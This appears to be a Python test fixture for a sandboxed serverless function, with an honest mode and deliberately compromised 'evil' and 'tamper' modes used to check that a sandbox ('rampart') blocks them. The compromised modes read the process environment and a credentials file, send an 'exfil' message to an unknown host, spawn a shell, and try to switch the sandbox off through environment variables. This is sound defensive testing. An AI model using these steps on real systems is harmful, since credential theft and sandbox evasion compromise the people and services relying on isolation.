"""The Python fixture function (see ../README.md): an honest behaviour and a
compromised one selected by the event, each action's outcome in the result."""

import json
import os
import socket
import subprocess

RUNTIME = "python"


def _addr(var):
    host, port = os.environ[var].rsplit(":", 1)
    return host, int(port)


def _attempt(actions, name, action):
    try:
        action()
        actions[name] = "ok"
    except Exception as e:  # noqa: BLE001 - the error text is the result
        actions[name] = str(e) or type(e).__name__


def _tamper(context):
    """Turns rampart off from inside, every way the environment offers, then
    reads the credentials file: itself, and through `/bin/cat` started with
    the changed environment and with an empty one."""
    os.environ["RAMPART_MODE"] = "off"
    os.environ["LD_PRELOAD"] = ""
    os.environ.pop("RAMPART_POLICY", None)
    creds = os.environ["FIXTURE_CREDENTIALS"]
    actions = {}

    def read():
        with open(creds, "rb") as f:
            f.read()

    _attempt(actions, "read", read)
    runs = {}
    for name, env in (("inherited", None), ("empty", {})):
        done = subprocess.run(["/bin/cat", creds], env=env, capture_output=True, check=False)
        runs[name] = {
            "code": done.returncode,
            "stdout": done.stdout.decode(errors="replace"),
            "stderr": done.stderr.decode(errors="replace"),
        }
    return {
        "runtime": RUNTIME,
        "request_id": context.aws_request_id,
        "pid": os.getpid(),
        "tamper": True,
        "actions": actions,
        "cat": runs,
    }


def handler(event, context):
    if isinstance(event, dict) and event.get("fail"):
        raise RuntimeError("fixture failure requested")
    if isinstance(event, dict) and event.get("noop") is True:
        return {"runtime": RUNTIME, "request_id": context.aws_request_id, "pid": os.getpid(), "noop": True}
    if isinstance(event, dict) and event.get("tamper") is True:
        return _tamper(context)
    evil = isinstance(event, dict) and event.get("evil") is True
    actions = {}
    result = {
        "runtime": RUNTIME,
        "request_id": context.aws_request_id,
        "pid": os.getpid(),
        "evil": evil,
        "greeting": None,
    }

    def config():
        root = os.environ.get("LAMBDA_TASK_ROOT") or os.getcwd()
        with open(os.path.join(root, "config.json")) as f:
            result["greeting"] = json.load(f)["greeting"]

    def tmp():
        path = os.path.join(os.environ.get("FIXTURE_TMP") or "/tmp", RUNTIME + "-out.json")
        with open(path, "w") as f:
            json.dump({"request_id": context.aws_request_id}, f)

    def peer():
        with socket.create_connection(_addr("FIXTURE_PEER"), timeout=5) as s:
            s.sendall(b"ping " + RUNTIME.encode() + b"\n")
            reply = s.makefile("rb").readline()
            if reply != b"pong\n":
                raise RuntimeError("unexpected reply %r" % reply)

    def environ():
        with open("/proc/self/environ", "rb") as f:
            f.read()

    def credentials():
        with open(os.environ["FIXTURE_CREDENTIALS"], "rb") as f:
            f.read()

    def unknown():
        with socket.create_connection(_addr("FIXTURE_UNKNOWN"), timeout=5) as s:
            s.sendall(b"exfil " + RUNTIME.encode() + b"\n")

    def spawn():
        code = subprocess.run(["/bin/sh", "-c", "true"], check=False).returncode
        if code != 0:
            raise RuntimeError("/bin/sh exited with %d" % code)

    steps = [("config", config), ("tmp", tmp), ("peer", peer)]
    if evil:
        steps += [("environ", environ), ("credentials", credentials), ("unknown", unknown), ("spawn", spawn)]
    for name, action in steps:
        _attempt(actions, name, action)
    result["actions"] = actions
    return result
